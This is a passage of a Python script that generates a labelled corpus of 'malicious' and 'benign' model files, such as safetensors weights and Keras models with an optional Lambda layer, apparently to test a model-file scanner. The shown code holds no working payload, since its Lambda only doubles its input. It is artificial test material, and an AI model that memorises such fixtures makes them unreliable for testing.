    data = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, len(data)]}}).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + data)


def _real_keras(path: Path, with_lambda: bool) -> None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    layers = [keras.Input(shape=(4,)), keras.layers.Dense(3, activation="relu")]
    if with_lambda:
        layers.append(keras.layers.Lambda(lambda x: x * 2))
    layers.append(keras.layers.Dense(2, activation="softmax"))
    keras.Sequential(layers).save(path)


def generate(out: Path, keras: bool = True) -> dict[str, str]:
    """Write the corpus; returns {relative path: "malicious"|"benign"}."""
    manifest: dict[str, str] = {}
    for label, files in (("malicious", malicious_files(out, keras)), ("benign", benign_files(out, keras))):
        folder = out / label
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in files.items():
            path = folder / name
            if callable(content):
                content(path)
            else:
                path.write_bytes(content)
            manifest[f"{label}/{name}"] = label
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    return manifest


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit("usage: gen_model_corpus.py OUT_DIR [--no-keras]")
    written = generate(Path(sys.argv[1]), keras="--no-keras" not in sys.argv)
    counts = {label: sum(1 for v in written.values() if v == label) for label in ("malicious", "benign")}
    print(f"{counts['malicious']} malicious, {counts['benign']} benign files in {sys.argv[1]}")
